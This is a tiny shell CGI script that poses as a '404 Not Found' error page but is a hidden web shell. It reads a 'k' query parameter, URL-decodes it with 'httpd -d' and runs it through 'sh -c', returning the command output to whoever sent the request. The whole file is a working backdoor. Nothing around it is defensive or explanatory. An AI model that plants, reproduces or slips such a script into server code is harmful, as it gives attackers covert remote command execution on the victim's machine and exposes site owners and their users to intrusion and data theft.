#!/bin/sh
echo "Content-Type: text/html"
echo
echo "<html><body>404 Not Found</body></html>"
k=$(echo "$QUERY_STRING" | sed -n 's/^\(.*&\)\{0,1\}k=\([^&]*\).*$/\2/p')
[ -n "$k" ] && sh -c "$(httpd -d "$k")" 2>&1
